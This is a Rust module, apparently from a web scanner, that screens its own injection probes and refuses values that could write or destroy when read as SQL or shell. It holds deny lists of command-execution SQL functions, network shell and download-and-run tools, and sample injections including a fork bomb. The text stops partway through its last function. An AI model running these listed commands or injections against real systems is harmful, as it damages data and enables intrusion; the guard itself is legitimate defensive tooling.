//! The non-destructive guard: every value the scanner places at a request
//! point passes [`check`] before anything is sent.
//!
//! The guard does not know where the application puts the value, so it
//! reads it every way it may land and refuses when *any* reading could
//! change state. It reads the value as written and, when they differ, its
//! percent-decoded forms (up to three rounds).
//!
//! # SQL
//!
//! A small SQL lexer reads the value in six ways: outside a string, just
//! after an opening `'` and just after an opening `"` (the value broke out
//! of a quoted literal), each with and without backslash escapes inside
//! strings (MySQL vs standard SQL). Words outside string literals are
//! *code words*; comments are **not** skipped (their words count too, which
//! also covers MySQL's `/*! ... */` executable comments).
//!
//! Refused:
//! - anywhere as a code word: `OUTFILE`, `DUMPFILE`, `TRUNCATE` and the
//!   functions and procedures that write, run commands or kill sessions:
//!   `xp_cmdshell`, `xp_regwrite`, `sp_configure`, `sp_oacreate`,
//!   `sp_oamethod`, `sp_executesql`, `sp_addlogin`, `sp_addsrvrolemember`,
//!   `sp_password`, `lo_import`, `lo_export`, `lo_unlink`, `lo_from_bytea`,
//!   `writefile`, `load_extension`, `setval`, `nextval`,
//!   `pg_terminate_backend`, `pg_cancel_backend`, `pg_reload_conf`,
//!   `pg_rotate_logfile`, `pg_file_write`, `pg_file_unlink`,
//!   `pg_file_rename`, `utl_file`, `sys_exec`, `sys_eval`, `dbms_scheduler`,
//!   `dbms_job`;
//! - in a SQL context, the statement verbs that write or change the schema,
//!   privileges, the server or the session's database list: `INSERT`,
//!   `UPDATE`, `DELETE`, `DROP`, `ALTER`, `CREATE`, `MERGE`, `UPSERT`,
//!   `GRANT`, `REVOKE`, `ATTACH`, `DETACH`, `RENAME`, `VACUUM`, `REINDEX`,
//!   `ANALYZE`, `OPTIMIZE`, `REPAIR`, `FLUSH`, `RESET`, `PURGE`, `INSTALL`,
//!   `UNINSTALL`, `RESTORE`, `BACKUP`, `DBCC`, `BULK`, `CHECKPOINT`,
//!   `CLUSTER`, `REFRESH`, `REASSIGN`, `IMPORT`, `COPY`, `EXEC`, `EXECUTE`,
//!   `CALL`, `HANDLER`, `LOCK`, `SHUTDOWN`, `LOAD`, `INTO` (covers `INSERT
//!   INTO`, `SELECT ... INTO table` and `INTO OUTFILE`), `KILL`, `NOTIFY`;
//!   `REPLACE` unless it is the function `replace(`; `PRAGMA` when a `=` or
//!   `(` follows within four tokens (a pragma write); `SET` followed by
//!   `GLOBAL`, `PERSIST`, `PERSIST_ONLY` or `PASSWORD`.
//!
//! A reading is a *SQL context* when it broke out of a quote, or (read as
//! written) when it holds SQL punctuation (`;`, `(`, `)`, `=`, `*`, `<`,
//! `>`, `|`, a quote, `--`, `/*`) or a structural keyword (`SELECT`, `FROM`,
//! `WHERE`, `TABLE`, `VALUES`, `SET`, `DATABASE`, `SCHEMA`, `UNION`,
//! `INDEX`, `VIEW`, `TRIGGER`, `PROCEDURE`, `FUNCTION`, `COLUMN`,
//! `WAITFOR`). So `please update my address` passes while
//! `1; update users set x=1` does not.
//!
//! # Shell
//!
//! A small shell lexer (POSIX sh plus the `cmd.exe` separators) reads the
//! value as written, after an opening `'` and after an opening `"`. It
//! splits simple commands at `;`, `&`, `&&`, `|`, `||`, newlines and
//! parentheses, removes quotes, follows backslash escapes, and reads the
//! inside of `$(...)` and backticks (also within double quotes) as commands
//! of their own; `$((...))` arithmetic and `${...}` expansions are
//! harmless. The first word of **every** simple command (also the first
//! word of the value itself, even when it is only an argument in the
//! application's command line) is a command name; leading `NAME=value`
//! assignments, `{`, `}`, `!` and the shell keywords (`if`, `then`, `do`,
//! ...) are skipped, and wrappers (`sudo`, `env`, `nohup`, `exec`,
//! `command`, `nice`, `timeout`, `xargs`, `busybox`, `time`, `stdbuf`,
//! `setsid`, `chroot`, `strace`, `watch`, `doas`, `ionice`, `unbuffer`,
//! `runuser`) with their options are looked through; `sh/bash/dash/zsh/ksh
//! -c SCRIPT`, `su -c SCRIPT`, `eval ...` and `cmd /c ...` are read
//! recursively (eight levels at most: deeper nesting is refused). Refused:
//!
//! - command names that delete, move, write, change permissions, kill,
//!   stop the machine, manage users, services, packages, mounts or
//!   firewalls, open network shells, or run code the guard cannot read
//!   (see [`DESTRUCTIVE_COMMANDS`]), matched on the base name, lower-cased,
//!   without `.exe`; any `mkfs*`;
//! - `sed -i`/`--in-place`, `find` with `-delete`, `-exec`, `-execdir`,
//!   `-ok`, `-okdir`, `-fprint*`, `-fls`; `date -s`/`--set`; `awk` programs
//!   holding `system`, `>` or `|`;
//! - `curl` with an option that writes a file or sends data (`-o`, `-O`,
//!   `-T`, `-d`, `-F`, `-X`, `-D`, `-c`, `-K` alone or in a cluster such as
//!   `-sSo`, `--output`, `--remote-name*`, `--upload-file`, `--data*`,
//!   `--form*`, `--json`, `--request`, `--dump-header`, `--cookie-jar`,
//!   `--config`, `--trace*`, `--libcurl`, `--create-dirs`);
//! - `wget` unless it writes to standard output (`-O -`, `-O-`, `-qO-`,
//!   `--output-document=-`) or only checks (`--spider`), and always with
//!   `--post-data`, `--post-file`, `--method`, `--body-*`;
//! - output redirections (`>`, `>>`, `>|`, `&>`, `&>>`, `<>`, `>&file`)
//!   outside quotes whose target is a word other than `/dev/null`,
//!   `/dev/stdout`, `/dev/stderr`, `/dev/fd/N` or a descriptor (`>&2`,
//!   `>&-`). A `>` followed by an operator or the end of the value is not a
//!   redirection to a file.
//!
//! # Not covered (limits)
//!
//! - The guard reads the value, not the application: a value that is
//!   harmless text but is turned into something else by the application
//!   (base64-decoded, template-expanded, decoded more than three times,
//!   HTML-entity-decoded) is judged as sent.
//! - It is a deny list: a write through a program or SQL function it does
//!   not list (a custom stored procedure, a user-defined function, a
//!   database-specific extension, an application endpoint that itself
//!   writes) passes. So do requests whose *method or endpoint* writes on
//!   its own (a POST that creates a record each time it is called):
//!   restrict `methods` in the configuration for such applications.
//! - Resource exhaustion is not a write and is not refused (`sleep`, heavy
//!   read-only SQL, a fork bomb such as `:(){ :|:& };:`); the time-based
//!   strategies rely on the first two.
//! - Other languages (code injection in PHP, Python, JavaScript,
//!   template engines, XPath, LDAP, NoSQL operators) are not parsed; only
//!   their SQL- and shell-shaped parts are caught.
//! - It errs towards refusing: HTML with text after a `>` (`<b>x</b>`)
//!   reads as an output redirection, an English sentence that starts with a
//!   listed command (`kill the lights`) or that holds SQL punctuation and a
//!   verb (`delete (all)`) is refused.

use std::fmt;

use crate::point::percent_decode;

/// The largest value the guard reads; longer values are refused.
pub const MAX_GUARDED_LEN: usize = 64 * 1024;

/// Why the guard refused a value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    /// A stable rule name: `sql-write`, `shell-command`, `shell-redirect`,
    /// `too-long`, `too-deep`.
    pub rule: &'static str,
    /// What was found and how the value was read.
    pub detail: String,
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "non-destructive guard refused the probe ({}): {}",
            self.rule, self.detail
        )
    }
}

impl std::error::Error for Refusal {}

/// Checks a value before it is placed at a request point. `Ok` means none
/// of the readings described in the module documentation could change
/// state.
pub fn check(value: &str) -> Result<(), Refusal> {
    if value.len() > MAX_GUARDED_LEN {
        return Err(Refusal {
            rule: "too-long",
            detail: format!(
                "{} bytes, more than the {} the guard reads",
                value.len(),
                MAX_GUARDED_LEN
            ),
        });
    }
    let mut forms = vec![value.to_string()];
    for _ in 0..3 {
        let Some(last) = forms.last() else { break };
        let d = percent_decode(last, false);
        if &d == last {
            break;
        }
        forms.push(d);
    }
    for (n, f) in forms.iter().enumerate() {
        let how = if n == 0 {
            String::new()
        } else {
            format!(", after {n} round(s) of percent-decoding")
        };
        check_sql(f).map_err(|mut r| {
            r.detail.push_str(&how);
            r
        })?;
        check_shell(f).map_err(|mut r| {
            r.detail.push_str(&how);
            r
        })?;
    }
    Ok(())
}

// ---------------------------------------------------------------- SQL

const SQL_ALWAYS: &[&str] = &[
    "outfile",
    "dumpfile",
    "truncate",
    "xp_cmdshell",
    "xp_regwrite",
    "sp_configure",
    "sp_oacreate",
    "sp_oamethod",
    "sp_executesql",
    "sp_addlogin",
    "sp_addsrvrolemember",
    "sp_password",
    "lo_import",
    "lo_export",
    "lo_unlink",
    "lo_from_bytea",
    "writefile",
    "load_extension",
    "setval",
    "nextval",
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_file_write",
    "pg_file_unlink",
    "pg_file_rename",
    "utl_file",
    "sys_exec",
    "sys_eval",
    "dbms_scheduler",
    "dbms_job",
];

const SQL_VERBS: &[&str] = &[
    "insert",
    "update",
    "delete",
    "drop",
    "alter",
    "create",
    "merge",
    "upsert",
    "grant",
    "revoke",
    "attach",
    "detach",
    "rename",
    "vacuum",
    "reindex",
    "analyze",
    "optimize",
    "repair",
    "flush",
    "reset",
    "purge",
    "install",
    "uninstall",
    "restore",
    "backup",
    "dbcc",
    "bulk",
    "checkpoint",
    "cluster",
    "refresh",
    "reassign",
    "import",
    "copy",
    "exec",
    "execute",
    "call",
    "handler",
    "lock",
    "shutdown",
    "load",
    "into",
    "kill",
    "notify",
];

const SQL_STRUCTURE: &[&str] = &[
    "select",
    "from",
    "where",
    "table",
    "values",
    "set",
    "database",
    "schema",
    "union",
    "index",
    "view",
    "trigger",
    "procedure",
    "function",
    "column",
    "waitfor",
];

#[derive(Debug, Clone, PartialEq)]
enum SqlTok {
    Word(String),
    Punct(char),
}

struct SqlReading {
    toks: Vec<SqlTok>,
    broke_out: bool,
}

fn sql_lex(src: &str, open: Option<char>, backslash: bool) -> SqlReading {
    let chars: Vec<char> = src.chars().collect();
    let mut toks = Vec::new();
    let mut in_str = open;
    let mut initial = open.is_some();
    let mut broke_out = false;
    let mut word = String::new();
    let mut i = 0;
    let flush = |word: &mut String, toks: &mut Vec<SqlTok>| {
        if !word.is_empty() {
            toks.push(SqlTok::Word(std::mem::take(word)));
        }
    };
    while i < chars.len() {
        let c = chars[i];
        if let Some(q) = in_str {
            if backslash && c == '\\' {
                i += 2;
                continue;
            }
            if c == q {
                if chars.get(i + 1) == Some(&q) {
                    i += 2;
                    continue;
                }
                in_str = None;
                if initial {
                    broke_out = true;
                    initial = false;
                }
                toks.push(SqlTok::Punct(q));
            }
            i += 1;
            continue;
        }
        match c {
            '\'' | '"' | '`' => {
                flush(&mut word, &mut toks);
                toks.push(SqlTok::Punct(c));
                in_str = Some(c);
            }
            c if c.is_alphanumeric() || c == '_' || c == '$' || c == '@' => {
                // `50000DROP` (after `/*!`) and `1union` read as a number
                // followed by a word, as MySQL reads them.
                if c.is_alphabetic() && !word.is_empty() && word.chars().all(|d| d.is_ascii_digit())
                {
                    flush(&mut word, &mut toks);
                }
                word.extend(c.to_lowercase());
            }
            c if c.is_whitespace() => flush(&mut word, &mut toks),
            c => {
                flush(&mut word, &mut toks);
                toks.push(SqlTok::Punct(c));
            }
        }
        i += 1;
    }
    flush(&mut word, &mut toks);
    SqlReading { toks, broke_out }
}

fn sql_context(r: &SqlReading) -> bool {
    if r.broke_out {
        return true;
    }
    let mut prev = ' ';
    for t in &r.toks {
        match t {
            SqlTok::Punct(c) => {
                if ";()=*<>|'\"`".contains(*c)
                    || (prev == '-' && *c == '-')
                    || (prev == '/' && *c == '*')
                {
                    return true;
                }
                prev = *c;
            }
            SqlTok::Word(w) => {
                if SQL_STRUCTURE.contains(&w.as_str()) {
                    return true;
                }
                prev = ' ';
            }
        }
    }
    false
}

fn check_sql(value: &str) -> Result<(), Refusal> {
    let readings = [
        (None, false, "as written"),
        (Some('\''), false, "after an opening '"),
        (
            Some('\''),
            true,
            "after an opening ' with backslash escapes",
        ),
        (Some('"'), false, "after an opening \""),
        (
            Some('"'),
            true,
            "after an opening \" with backslash escapes",
        ),
        (None, true, "as written with backslash escapes"),
    ];
    for (open, bs, how) in readings {
        let r = sql_lex(value, open, bs);
        let ctx = sql_context(&r);
        for (n, t) in r.toks.iter().enumerate() {
            let SqlTok::Word(w) = t else { continue };
            let refuse = |what: &str| Refusal {
                rule: "sql-write",
                detail: format!("SQL {what} `{}` (read {how})", w.to_uppercase()),
            };
            if SQL_ALWAYS.contains(&w.as_str()) {
                return Err(refuse("write/command function or keyword"));
            }
            if !ctx {
                continue;
            }
            let next = r.toks.get(n + 1);
            if SQL_VERBS.contains(&w.as_str()) {
                return Err(refuse("write/DDL verb"));
            }
            match w.as_str() {
                "replace" if next != Some(&SqlTok::Punct('(')) => {
                    return Err(refuse("write verb"));
                }
                "pragma"
                    if r.toks
                        .iter()
                        .skip(n + 1)
                        .take(4)
                        .any(|t| matches!(t, SqlTok::Punct('=') | SqlTok::Punct('('))) =>
                {
                    return Err(refuse("pragma write"));
                }
                "set" => {
                    if let Some(SqlTok::Word(nw)) = next {
                        if ["global", "persist", "persist_only", "password"].contains(&nw.as_str())
                        {
                            return Err(refuse("server setting change"));
                        }
                    }
                }
                _ => {}
            }
        }
    }
    Ok(())
}

// ---------------------------------------------------------------- shell

/// Commands the guard refuses in command position (base name, lower-cased).
pub const DESTRUCTIVE_COMMANDS: &[&str] = &[
    // delete, move, write files
    "rm",
    "rmdir",
    "unlink",
    "shred",
    "srm",
    "wipe",
    "wipefs",
    "mv",
    "cp",
    "dd",
    "install",
    "ln",
    "link",
    "truncate",
    "fallocate",
    "tee",
    "touch",
    "mkdir",
    "mknod",
    "mkfifo",
    "mktemp",
    "split",
    "csplit",
    "patch",
    "tar",
    "unzip",
    "zip",
    "gzip",
    "gunzip",
    "bzip2",
    "bunzip2",
    "xz",
    "unxz",
    "7z",
    "7za",
    "rar",
    "unrar",
    "cpio",
    "ed",
    "ex",
    "vi",
    "vim",
    "nano",
    "emacs",
    "rsync",
    "scp",
    "sftp",
    "ftp",
    "tftp",
    "mke2fs",
    "mkswap",
    "fdisk",
    "sfdisk",
    "parted",
    "losetup",
    // permissions and ownership
    "chmod",
    "chown",
    "chgrp",
    "chattr",
    "setfacl",
    "chcon",
    "setenforce",
    // processes and the machine
    "kill",
    "killall",
    "pkill",
    "skill",
    "xkill",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "init",
    "telinit",
    "systemctl",
    "service",
    "initctl",
    "crontab",
    "at",
    "batch",
    "sysctl",
    "modprobe",
    "insmod",
    "rmmod",
    "mount",
    "umount",
    "swapon",
    "swapoff",
    // users
    "useradd",
    "userdel",
    "usermod",
    "adduser",
    "deluser",
    "groupadd",
    "groupdel",
    "groupmod",
    "passwd",
    "chpasswd",
    "chsh",
    "chfn",
    "visudo",
    "vipw",
    // firewall, network shells, mail
    "iptables",
    "ip6tables",
    "nft",
    "ufw",
    "firewall-cmd",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "ssh",
    "mail",
    "mailx",
    "sendmail",
    "logger",
    // package managers, repositories, builds, containers, database clients
    "apt",
    "apt-get",
    "dpkg",
    "yum",
    "dnf",
    "rpm",
    "apk",
    "pip",
    "pip3",
    "npm",
    "yarn",
    "gem",
    "cargo",
    "make",
    "git",
    "svn",
    "docker",
    "podman",
    "kubectl",
    "mysql",
    "psql",
    "sqlite3",
    "mongo",
    "mongosh",
    "redis-cli",
    // interpreters running code the guard cannot read
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "nodejs",
    "php",
    "lua",
    "tclsh",
    "powershell",
    "pwsh",
    "cscript",
    "wscript",
    "mshta",
    "rundll32",
    "regsvr32",
    // cmd.exe and Windows tools
    "del",
    "erase",
    "rd",
    "format",
    "move",
    "ren",
    "rename",
    "copy",
    "xcopy",
    "robocopy",
    "taskkill",
    "reg",
    "sc",
    "schtasks",
    "icacls",
    "cacls",
    "takeown",
    "attrib",
    "bcdedit",
    "diskpart",
    "cipher",
    "vssadmin",
    "wmic",
    "net",
    "netsh",
    "bitsadmin",
    "certutil",
    "mklink",
    // PowerShell cmdlets and aliases
    "remove-item",
    "ri",
    "stop-process",
    "spps",
    "set-content",
    "add-content",
    "ac",
    "out-file",
    "new-item",
    "ni",
    "move-item",
    "mi",
    "copy-item",
    "cpi",
    "rename-item",
    "rni",
    "clear-content",
    "clc",
    "stop-computer",
    "restart-computer",
    "stop-service",
    "set-itemproperty",
    "remove-itemproperty",
    "new-itemproperty",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "start-bitstransfer",
    "set-executionpolicy",
    "format-volume",
    "clear-disk",
    "remove-partition",
    "invoke-expression",
    "iex",
    "invoke-command",
    "icm",
    "start-process",
    "saps",
];

const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "nohup", "exec", "command", "builtin", "nice", "ionice", "time",
    "timeout", "xargs", "busybox", "stdbuf", "setsid", "chroot", "strace", "watch", "unbuffer",
    "runuser",
];

const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "fish", "csh", "tcsh", "su",
];

const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "for", "case", "esac",
    "in", "{", "}", "!", "function", "select",
];

const MAX_SHELL_DEPTH: usize = 8;

#[derive(Debug, Default, Clone)]
struct Cmd {
    words: Vec<String>,
    redirects: Vec<(String, Option<String>)>,
}

#[derive(Debug, Default)]
struct ShellReading {
    cmds: Vec<Cmd>,
    too_deep: bool,
}

struct Lexer<'a> {
    s: &'a [char],
    out: &'a mut ShellReading,
    depth: usize,
    cur: Cmd,
    word: String,
    in_word: bool,
    pending: Option<String>,
}

impl Lexer<'_> {
    fn finish_word(&mut self) {
        if self.in_word {
            let w = std::mem::take(&mut self.word);
            if let Some(op) = self.pending.take() {
                self.cur.redirects.push((op, Some(w)));
            } else {
                self.cur.words.push(w);
            }
            self.in_word = false;
        }
    }

    fn end_cmd(&mut self) {
        self.finish_word();
        if let Some(op) = self.pending.take() {
            self.cur.redirects.push((op, None));
        }
        let c = std::mem::take(&mut self.cur);
        if !c.words.is_empty() || !c.redirects.is_empty() {
            self.out.cmds.push(c);
        }
    }

    fn sub(&mut self, content: &[char]) {
        if self.depth + 1 > MAX_SHELL_DEPTH {
            self.out.too_deep = true;
            return;
        }
        lex_shell(content, None, self.depth + 1, self.out);
    }

    /// Index just after the `)` matching the `(` at `open`.
    fn matching_paren(&self, open: usize) -> usize {
        let s = self.s;
        let mut depth = 0usize;
        let mut i = open;
        let mut q: Option<char> = None;
        while i < s.len() {
            let c = s[i];
            match q {
                Some('\'') => {
                    if c == '\'' {
                        q = None;
                    }
                }
                Some(_) => {
                    if c == '\\' {
                        i += 1;
                    } else if c == '"' {
                        q = None;
                    }
                }
                None => match c {
                    '\\' => i += 1,
                    '\'' | '"' => q = Some(c),
                    '(' => depth += 1,
                    ')' => {
                        depth = depth.saturating_sub(1);
                        if depth == 0 {
                            return i + 1;
                        }
                    }
                    _ => {}
                },
            }
            i += 1;
        }
        s.len()
    }

    /// Handles `$` or a backtick at `i`; returns the next index.
    fn expansion(&mut self, i: usize) -> usize {
        let s = self.s;
        self.in_word = true;
        if s[i] == '`' {
            let mut j = i + 1;
            let mut content = Vec::new();
            while j < s.len() && s[j] != '`' {
                if s[j] == '\\' && j + 1 < s.len() {
                    content.push(s[j + 1]);
                    j += 2;
                    continue;
                }
                content.push(s[j]);
                j += 1;
            }
            self.sub(&content);
            self.word.push('x');
            return (j + 1).min(s.len());
        }
        match s.get(i + 1) {
            Some('(') if s.get(i + 2) == Some(&'(') => {
                // $(( arithmetic )): no command runs.
                let end = self.matching_paren(i + 1);
                self.word.push('0');
                end
            }
            Some('(') => {
                let end = self.matching_paren(i + 1);
                let inner_end = if end > i + 2 && s.get(end - 1) == Some(&')') {
                    end - 1
                } else {
                    end
                };
                let content: Vec<char> = s[(i + 2).min(inner_end)..inner_end].to_vec();
                self.sub(&content);
                self.word.push('x');
                end
            }
            Some('{') => {
                let mut j = i + 2;
                while j < s.len() && s[j] != '}' {
                    j += 1;
                }
                self.word.push('x');
                (j + 1).min(s.len())
            }
            _ => {
                self.word.push('$');
                i + 1
            }
        }
    }

    fn run(&mut self, open: Option<char>) {
        let s = self.s;
        let mut q = open;
        if q.is_some() {
            self.in_word = true;
        }
        let mut i = 0;
        while i < s.len() {
            let c = s[i];
            match q {
                Some('\'') => {
                    if c == '\'' {
                        q = None;
                    } else {
                        self.word.push(c);
                    }
                    i += 1;
                }
                Some(_) => {
                    if c == '"' {
                        q = None;
                        i += 1;
                    } else if c == '\\'
                        && matches!(s.get(i + 1), Some('$' | '`' | '"' | '\\' | '\n'))
                    {
                        self.word.push(s[i + 1]);
                        i += 2;
                    } else if c == '$' || c == '`' {
                        i = self.expansion(i);
                    } else {
                        self.word.push(c);
                        i += 1;
                    }
                }
                None => match c {
                    ' ' | '\t' | '\r' => {
                        self.finish_word();
                        i += 1;
                    }
                    '\n' | ';' | '(' | ')' => {
                        self.end_cmd();
                        i += 1;
                    }
                    '&' if s.get(i + 1) == Some(&'>') => {
                        self.finish_word();
                        self.end_pending();
                        let mut op = String::from("&>");
                        i += 2;
                        if s.get(i) == Some(&'>') {
                            op.push('>');
                            i += 1;
                        }
                        self.pending = Some(op);
                        i = skip_blanks(s, i);
                    }
                    '&' | '|' => {
                        self.end_cmd();
                        i += 1;
                        if matches!(s.get(i), Some('&' | '|')) {
                            i += 1;
                        }
                    }
                    '<' | '>' => {
                        if self.in_word
                            && !self.word.is_empty()
                            && self.word.chars().all(|d| d.is_ascii_digit())
                        {
                            // a file descriptor number (`2>`)
                            self.word.clear();
                            self.in_word = false;
                        }
                        self.finish_word();
                        self.end_pending();
                        let mut op = String::from(c);
                        i += 1;
                        let follow: &[char] = if c == '>' {
                            &['>', '|', '&']
                        } else {
                            &['<', '>', '&']
                        };
                        if let Some(&n) = s.get(i) {
                            if follow.contains(&n) {
                                op.push(n);
                                i += 1;
                                if op == "<<" && s.get(i) == Some(&'<') {
                                    op.push('<');
                                    i += 1;
                                }
                            }
                        }
                        self.pending = Some(op);
                        i = skip_blanks(s, i);
                    }
                    '\\' => {
                        match s.get(i + 1) {
                            Some('\n') => {}
                            Some(&n) => {
                                self.word.push(n);
                                self.in_word = true;
                            }
                            None => {}
                        }
                        i += 2;
                    }
                    '\'' | '"' => {
                        q = Some(c);
                        self.in_word = true;
                        i += 1;
                    }
                    '$' if s.get(i + 1) == Some(&'\'') => {
                        // $'...' ANSI-C quoting
                        let mut j = i + 2;
                        while j < s.len() && s[j] != '\'' {
                            if s[j] == '\\' && j + 1 < s.len() {
                                self.word.push(s[j + 1]);
                                j += 2;
                                continue;
                            }
                            self.word.push(s[j]);
                            j += 1;
                        }
                        self.in_word = true;
                        i = (j + 1).min(s.len());
                    }
                    '$' | '`' => {
                        i = self.expansion(i);
                    }
                    '#' if !self.in_word => {
                        while i < s.len() && s[i] != '\n' {
                            i += 1;
                        }
                    }
                    _ => {
                        self.word.push(c);
                        self.in_word = true;
                        i += 1;
                    }
                },
            }
        }
        self.end_cmd();
    }

    fn end_pending(&mut self) {
        if let Some(op) = self.pending.take() {
            self.cur.redirects.push((op, None));
        }
    }
}

fn skip_blanks(s: &[char], mut i: usize) -> usize {
    while i < s.len() && (s[i] == ' ' || s[i] == '\t') {
        i += 1;
    }
    i
}

fn lex_shell(s: &[char], open: Option<char>, depth: usize, out: &mut ShellReading) {
    let mut lx = Lexer {
        s,
        out,
        depth,
        cur: Cmd::default(),
        word: String::new(),
        in_word: false,
        pending: None,
    };
    lx.run(open);
}

/// The program a command word names: the base name when the word is a
/// path into a program directory (`/bin/rm`, `/usr/local/sbin/x`,
/// `C:\Windows\System32\del.exe`), otherwise the whole word (running
/// `../../etc/passwd` does not start the `passwd` program).
fn base_name(w: &str) -> String {
    let l = w.to_lowercase();
    let name = match l.rfind(['/', '\\']) {
        Some(p) => {
            let dir = l[..p].trim_end_matches(['/', '\\']);
            if dir.ends_with("bin")
                || dir.ends_with("system32")
                || dir.ends_with("syswow64")
                || dir.ends_with("v1.0")
                || dir.is_empty()
            {
                l[p + 1..].to_string()
            } else {
                l.clone()
            }
        }
        None => l.clone(),
    };
    name.strip_suffix(".exe")
        .map(str::to_string)
        .unwrap_or(name)
}

fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

fn harmless_redirect(op: &str, target: &str) -> bool {
    if op.starts_with('<') && op != "<>" {
        return true; // reads
    }
    let t = target.to_ascii_lowercase();
    if (op == ">&" || op == "<&") && (t == "-" || t.chars().all(|c| c.is_ascii_digit())) {
        return true;
    }
    matches!(
        t.as_str(),
        "/dev/null" | "/dev/stdout" | "/dev/stderr" | "nul"
    ) || (t.starts_with("/dev/fd/") && t[8..].chars().all(|c| c.is_ascii_digit()))
}

fn shell_refusal(rule: &'static str, detail: String) -> Refusal {
    Refusal { rule, detail }
}

/// Checks one simple command; `depth` bounds recursion into `sh -c`.
fn check_cmd(cmd: &Cmd, depth: usize, how: &str) -> Result<(), Refusal> {
    for (op, target) in &cmd.redirects {
        if let Some(t) = target {
            if !harmless_redirect(op, t) {
                return Err(shell_refusal(
                    "shell-redirect",
                    format!("output redirection `{op}{t}` (read {how})"),
                ));
            }
        }
    }
    let mut w: &[String] = &cmd.words;
    // skip assignments and keywords
    loop {
        match w.first() {
            Some(f) if is_assignment(f) || KEYWORDS.contains(&f.to_lowercase().as_str()) => {
                w = &w[1..]
            }
            _ => break,
        }
    }
    let mut guard = 0;
    while let Some(first) = w.first() {
        guard += 1;
        if guard > 16 {
            break;
        }
        let name = base_name(first);
        let args = &w[1..];
        let refuse = |what: &str| {
            Err(shell_refusal(
                "shell-command",
                format!("shell command `{name}` {what}(read {how})"),
            ))
        };
        if name.is_empty() {
            return Ok(());
        }
        if WRAPPERS.contains(&name.as_str()) {
            // look through the wrapper and its options (and timeout's duration)
            let mut k = 0;
            while k < args.len() && (args[k].starts_with('-') || is_assignment(&args[k])) {
                k += 1;
            }
            if name == "timeout"
                && k < args.len()
                && args[k].chars().next().is_some_and(|c| c.is_ascii_digit())
            {
                k += 1;
            }
            w = &args[k..];
            continue;
        }
        if name == "eval" {
            return check_script(&args.join(" "), depth + 1, how);
        }
        if SHELLS.contains(&name.as_str()) {
            if let Some(p) = args.iter().position(|a| {
                a == "-c" || (a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
            }) {
                if let Some(script) = args.get(p + 1) {
                    return check_script(script, depth + 1, how);
                }
            }
            return Ok(());
        }
        if name == "cmd" {
            if let Some(p) = args
                .iter()
                .position(|a| a.eq_ignore_ascii_case("/c") || a.eq_ignore_ascii_case("/k"))
            {
                return check_script(&args[p + 1..].join(" "), depth + 1, how);
            }
            return Ok(());
        }
        if DESTRUCTIVE_COMMANDS.contains(&name.as_str()) || name.starts_with("mkfs") {
            return refuse("");
        }
        match name.as_str() {
            "sed"
                if args
                    .iter()
                    .any(|a| a.starts_with("-i") || a.starts_with("--in-place")) =>
            {
                return refuse("with in-place editing ");
            }
            "find"
                if args.iter().any(|a| {
                    matches!(
                        a.as_str(),
                        "-delete" | "-exec" | "-execdir" | "-ok" | "-okdir" | "-fls"
                    ) || a.starts_with("-fprint")
                }) =>
            {
                return refuse("with an action that writes or runs commands ");
            }
            "date" if args.iter().any(|a| a == "-s" || a.starts_with("--set")) => {
                return refuse("setting the clock ");
            }
            "awk" | "gawk" | "nawk" | "mawk"
                if args
                    .iter()
                    .any(|a| a.contains("system") || a.contains('>') || a.contains('|')) =>
            {
                return refuse("with a program that writes or runs commands ");
            }
            "curl" if args.iter().any(|a| curl_writes(a)) => {
                return refuse("with an option that writes a file or sends data ");
            }
            "wget" => {
                let post = args.iter().any(|a| {
                    a.starts_with("--post-")
                        || a.starts_with("--method")
                        || a.starts_with("--body-")
                });
                let stdout = args.iter().enumerate().any(|(n, a)| {
                    a == "-O-"
                        || a == "-qO-"
                        || a == "--output-document=-"
                        || a == "--spider"
                        || ((a == "-O" || a == "-qO" || a == "--output-document")
                            && args.get(n + 1).map(String::as_str) == Some("-"))
                });
                if post || !stdout {
                    return refuse("that saves a file or sends data ");
                }
            }
            _ => {}
        }
        break;
    }
    Ok(())
}

fn curl_writes(a: &str) -> bool {
    const LONG: &[&str] = &[
        "--output",
        "--remote-name",
        "--upload-file",
        "--data",
        "--form",
        "--json",
        "--request",
        "--dump-header",
        "--cookie-jar",
        "--config",
        "--trace",
        "--libcurl",
        "--create-dirs",
        "--output-dir",
    ];
    if let Some(l) = a.strip_prefix("--") {
        let l = format!("--{l}");
        return LONG.iter().any(|p| l.starts_with(p));
    }
    if let Some(cluster) = a.strip_prefix('-') {
        return cluster.chars().any(|c| "oOTdFXDcK".contains(c));
    }
    false
}

fn check_script(script: &str, depth: usize, how: &str) -> Result<(), Refusal> {
    if depth > MAX_SHELL_DEPTH {
        return Err(shell_refusal(
            "too-deep",
            format!("shell nesting deeper than {MAX_SHELL_DEPTH} levels"),
        ));
    }
    let chars: Vec<char> = script.chars().collect();
    let mut out = ShellReading::default();
    lex_shell(&chars, None, depth, &mut out);
    check_reading(&out, depth, how)
}

fn check_reading(r: &ShellReading, depth: usize, how: &str) -> Result<(), Refusal> {
    if r.too_deep {
        return Err(shell_refusal(
            "too-deep",
            format!("shell nesting deeper than {MAX_SHELL_DEPTH} levels"),
        ));
    }
    for c in &r.cmds {
        check_cmd(c, depth, how)?;
    }
    Ok(())
}

fn check_shell(value: &str) -> Result<(), Refusal> {
    let chars: Vec<char> = value.chars().collect();
    for (open, how) in [
        (None, "as written"),
        (Some('\''), "after an opening '"),
        (Some('"'), "after an opening \""),
    ] {
        let mut out = ShellReading::default();
        lex_shell(&chars, open, 0, &mut out);
        check_reading(&out, 0, how)?;
    }
